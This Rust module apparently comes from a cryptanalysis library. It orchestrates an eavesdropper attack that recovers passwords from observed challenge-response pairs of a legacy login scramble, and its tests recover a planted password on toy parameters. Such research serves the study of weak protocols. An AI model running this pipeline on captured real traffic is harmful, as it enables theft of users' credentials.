use alloc::vec::Vec;

use super::procedure1::{initial_pieces, recover_w9, PolygonSet};
use super::procedure2::procedure2;
use super::procedure3::{extract_points, procedure3};
use super::{AttackConfig, AttackError, CandidateSet, CellPiece, ChallengeResponsePair};
use crate::exact_geometry::HalfPlane;
use crate::legacy_auth::ScrambleParams;

/// Per-stage counters, logged in execution order.
#[derive(Clone, PartialEq, Debug)]
pub enum StageRecord {
    /// One pair inverted into polygon sets. `w9_values` normally holds one
    /// digit; several entries mean ambiguous mask recovery (all kept).
    PolygonSearch {
        pair_index: usize,
        w9_values: Vec<u8>,
        polygon_count: usize,
        full_translates: usize,
        total_area: f64,
        duration_ms: f64,
    },
    CellFilter {
        round: usize,
        other_pair_index: usize,
        exponent: u32,
        pieces_in: usize,
        pieces_out: usize,
        duration_ms: f64,
    },
    Extraction {
        pieces: usize,
        points: usize,
        duration_ms: f64,
    },
    ResponseFilter {
        pair_index: usize,
        candidates_in: usize,
        candidates_out: usize,
        duration_ms: f64,
    },
}

#[derive(Clone, PartialEq, Debug)]
pub struct AttackResult {
    pub candidates: CandidateSet,
    pub stages: Vec<StageRecord>,
    /// Polygon sets per inverted pair, index-aligned with the input.
    pub polygon_sets: Vec<Vec<PolygonSet>>,
    /// Survivors after each cell-filter round, index-aligned with the
    /// `CellFilter` stage records (rendering hooks; the last entry equals
    /// `final_pieces`).
    pub round_pieces: Vec<Vec<CellPiece>>,
    /// Pieces left after the last cell-filter round.
    pub final_pieces: Vec<CellPiece>,
}

#[cfg(feature = "std")]
struct Timer(std::time::Instant);

#[cfg(feature = "std")]
impl Timer {
    fn start() -> Self {
        Timer(std::time::Instant::now())
    }

    fn ms(&self) -> f64 {
        self.0.elapsed().as_secs_f64() * 1e3
    }
}

#[cfg(not(feature = "std"))]
struct Timer;

#[cfg(not(feature = "std"))]
impl Timer {
    fn start() -> Self {
        Timer
    }

    fn ms(&self) -> f64 {
        0.0
    }
}

/// Full eavesdropper pipeline over a batch of observed pairs.
///
/// The first `p1_pairs` pairs are inverted into polygon sets, clipped to
/// `seed_bound` when one is configured. The first pair's set is then cut to
/// dyadic cells and filtered once against each of the other sets, walking
/// the `cell_exponents` schedule (the last exponent repeats if there are
/// more sets than entries). Surviving lattice points are mapped to password
/// space and filtered through the response of every pair after the first,
/// oldest first, optionally stopping once unique. Deterministic: identical
/// inputs produce identical results, including ordering.
pub fn run_attack(
    pairs: &[ChallengeResponsePair],
    config: &AttackConfig,
    params: &ScrambleParams,
) -> Result<AttackResult, AttackError> {
    params
        .validate()
        .map_err(|source| AttackError::InvalidResponse { source })?;
    config.validate(params)?;
    if pairs.len() < 2 {
        return Err(AttackError::TooFewPairs {
            needed: 2,
            got: pairs.len(),
        });
    }
    for (i, pair) in pairs.iter().enumerate() {
        pair.validate(params).map_err(|e| e.at_pair(i))?;
    }
    for i in 0..pairs.len() {
        for j in (i + 1)..pairs.len() {
            if pairs[i].challenge_hash == pairs[j].challenge_hash {
                return Err(AttackError::DuplicateChallenge { first: i, second: j });
            }
        }
    }

    let mut stages = Vec::new();
    let p1_count = config.p1_pairs.min(pairs.len());
    let mut polygon_sets: Vec<Vec<PolygonSet>> = Vec::with_capacity(p1_count);
    for (index, pair) in pairs.iter().take(p1_count).enumerate() {
        let timer = Timer::start();
        let mut sets = recover_w9(pair, params);
        if let Some(bound) = config.seed_bound {
            clip_to_seed_bound(&mut sets, bound);
        }
        if sets.is_empty() {
            return Err(AttackError::NoPolygons {
                pair_index: Some(index),
            });
        }
        stages.push(StageRecord::PolygonSearch {
            pair_index: index,
            w9_values: sets.iter().map(|s| s.w9).collect(),
            polygon_count: sets.iter().map(|s| s.polygon_count()).sum(),
            full_translates: sets.iter().map(|s| s.full_translate_count(params)).sum(),
            total_area: sets.iter().map(|s| s.total_area()).sum(),
            duration_ms: timer.ms(),
        });
        polygon_sets.push(sets);
    }

    let mut pieces = initial_pieces(&polygon_sets[0], params);
    let mut round_pieces = Vec::with_capacity(p1_count - 1);
    for round in 0..(p1_count - 1) {
        let other_pair_index = round + 1;
        let exponent = *config
            .cell_exponents
            .get(round)
            .unwrap_or_else(|| config.cell_exponents.last().expect("validated nonempty"));
        let timer = Timer::start();
        let pieces_in = pieces.len();
        let others = &polygon_sets[other_pair_index];
        pieces = if others.len() == 1 {
            procedure2(&pieces, &pairs[0], &others[0], exponent)
        } else {
            // Ambiguous mask recovery on the other pair: a piece survives if
            // any of its sets matches, so union the per-set survivors.
            let mut union: Vec<CellPiece> = Vec::new();
            for set in others {
                for piece in procedure2(&pieces, &pairs[0], set, exponent) {
                    if !union.iter().any(|p| {
                        p.cell == piece.cell
                            && p.source == piece.source
                            && p.fragment.same_region(&piece.fragment)
                    }) {
                        union.push(piece);
                    }
                }
            }
            union
        };
        stages.push(StageRecord::CellFilter {
            round,
            other_pair_index,
            exponent,
            pieces_in,
            pieces_out: pieces.len(),
            duration_ms: timer.ms(),
        });
        round_pieces.push(pieces.clone());
    }

    let timer = Timer::start();
    let mut candidates = extract_points(&pieces, &pairs[0], config.sieve_budget)?;
    stages.push(StageRecord::Extraction {
        pieces: pieces.len(),
        points: candidates.len(),
        duration_ms: timer.ms(),
    });

    for (index, pair) in pairs.iter().enumerate().skip(1) {
        if candidates.is_empty() || (config.stop_when_unique && candidates.len() == 1) {
            break;
        }
        let timer = Timer::start();
        let candidates_in = candidates.len();
        candidates = procedure3(&candidates, pair, params);
        stages.push(StageRecord::ResponseFilter {
            pair_index: index,
            candidates_in,
            candidates_out: candidates.len(),
            duration_ms: timer.ms(),
        });
    }

    Ok(AttackResult {
        candidates,
        stages,
        polygon_sets,
        round_pieces,
        final_pieces: pieces,
    })
}

/// Intersects every polygon with [0, bound)^2 and drops what dies. Sound
/// whenever the true seed respects the bound, which holds by construction
/// for text logins (31-bit hash halves XOR to 31 bits).
fn clip_to_seed_bound(sets: &mut Vec<PolygonSet>, bound: u64) {
    let b = i64::try_from(bound).expect("seed_bound fits i64 (validated <= 2^32)");
    let x_cap = HalfPlane::from_ints(1, 0, b, false);
    let y_cap = HalfPlane::from_ints(0, 1, b, false);
    for set in sets.iter_mut() {
        set.polygons.retain_mut(|poly| {
            let clipped = poly.intersect_halfplane(&x_cap).intersect_halfplane(&y_cap);
            let keep = !clipped.is_empty();
            *poly = clipped;
            keep
        });
    }
    sets.retain(|set| !set.polygons.is_empty());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::legacy_auth::{scramble, HashHalves};
    use alloc::vec;

    fn toy_pairs(
        password: HashHalves,
        challenges: &[(u32, u32)],
        params: &ScrambleParams,
    ) -> Vec<ChallengeResponsePair> {
        challenges
            .iter()
            .map(|&(c1, c2)| {
                let ch = HashHalves::new(c1, c2);
                ChallengeResponsePair::from_hashes(ch, scramble(password, ch, params))
            })
            .collect()
    }

    fn toy_config() -> AttackConfig {
        AttackConfig {
            p1_pairs: 3,
            cell_exponents: vec![8, 6],
            sieve_budget: 1 << 22,
            stop_when_unique: false,
            seed_bound: None,
        }
    }

    #[test]
    fn recovers_the_planted_password() {
        let params = ScrambleParams::toy(12);
        let password = HashHalves::new(0x9AB, 0x1CD);
        let pairs = toy_pairs(
            password,
            &[
                (0x111, 0xE22),
                (0x333, 0x444),
                (0x555, 0x666),
                (0x777, 0x888),
                (0x999, 0xAAA),
            ],
            &params,
        );
        let result = run_attack(&pairs, &toy_config(), &params).unwrap();
        assert!(result.candidates.contains(&password));
        for p in &result.candidates.points {
            for pair in &pairs {
                assert_eq!(scramble(*p, pair.challenge_hash, &params), pair.response);
            }
        }
        assert!(!result.stages.is_empty());
        assert_eq!(result.polygon_sets.len(), 3);
    }

    #[test]
    fn deterministic_results() {
        let params = ScrambleParams::toy(12);
        let password = HashHalves::new(0x40F, 0xB0B);
        let pairs = toy_pairs(
            password,
            &[(0x123, 0x456), (0x789, 0xABC), (0xDEF, 0x012), (0x345, 0x678)],
            &params,
        );
        let a = run_attack(&pairs, &toy_config(), &params).unwrap();
        let b = run_attack(&pairs, &toy_config(), &params).unwrap();
        assert_eq!(a.candidates, b.candidates);
        assert_eq!(a.final_pieces, b.final_pieces);
    }

    #[test]
    fn input_validation() {
        let params = ScrambleParams::toy(12);
        let password = HashHalves::new(1, 2);
        let pairs = toy_pairs(password, &[(3, 4)], &params);
        assert_eq!(
            run_attack(&pairs, &toy_config(), &params).unwrap_err(),
            AttackError::TooFewPairs { needed: 2, got: 1 }
        );
        let dup = toy_pairs(password, &[(3, 4), (5, 6), (3, 4)], &params);
        assert_eq!(
            run_attack(&dup, &toy_config(), &params).unwrap_err(),
            AttackError::DuplicateChallenge { first: 0, second: 2 }
        );
        let mut bad_cfg = toy_config();
        bad_cfg.cell_exponents = vec![8, 8];
        assert!(matches!(
            run_attack(&toy_pairs(password, &[(3, 4), (5, 6)], &params), &bad_cfg, &params),
            Err(AttackError::InvalidConfig { .. })
        ));
        let mut wide = toy_config();
        wide.cell_exponents = vec![12];
        assert!(matches!(
            run_attack(&toy_pairs(password, &[(3, 4), (5, 6)], &params), &wide, &params),
            Err(AttackError::InvalidConfig { .. })
        ));
    }

    #[test]
    fn seed_bound_keeps_exactly_the_in_range_candidates() {
        let params = ScrambleParams::toy(12);
        let bound = 1u64 << 11;
        // Password and challenges all below the bound, so every seed is too.
        let password = HashHalves::new(0x3A5, 0x2B4);
        let pairs = toy_pairs(
            password,
            &[(0x101, 0x202), (0x303, 0x404), (0x505, 0x606), (0x607, 0x708)],
            &params,
        );
        let mut bounded_cfg = toy_config();
        bounded_cfg.seed_bound = Some(bound);
        let bounded = run_attack(&pairs, &bounded_cfg, &params).unwrap();
        let full = run_attack(&pairs, &toy_config(), &params).unwrap();
        assert!(bounded.candidates.contains(&password));
        let in_range: Vec<HashHalves> = full
            .candidates
            .points
            .iter()
            .copied()
            .filter(|p| (p.h1 as u64) < bound && (p.h2 as u64) < bound)
            .collect();
        assert_eq!(bounded.candidates.points, in_range);

        let mut bad = toy_config();
        bad.seed_bound = Some(1 << 13);
        assert!(matches!(
            run_attack(&pairs, &bad, &params),
            Err(AttackError::InvalidConfig { .. })
        ));
    }

    #[test]
    fn tampered_response_is_rejected() {
        let params = ScrambleParams::toy(12);
        let password = HashHalves::new(0x2F2, 0x3E3);
        let mut pairs = toy_pairs(password, &[(0x123, 0x321), (0x456, 0x654)], &params);
        // Flip one response byte to another in-range value.
        pairs[0].response.0[3] ^= 0x1F;
        match run_attack(&pairs, &toy_config(), &params) {
            Err(AttackError::NoPolygons { .. }) => {}
            Ok(result) => assert!(!result.candidates.contains(&password) || result.candidates.is_empty()),
            Err(other) => panic!("unexpected error: {other:?}"),
        }
    }
}
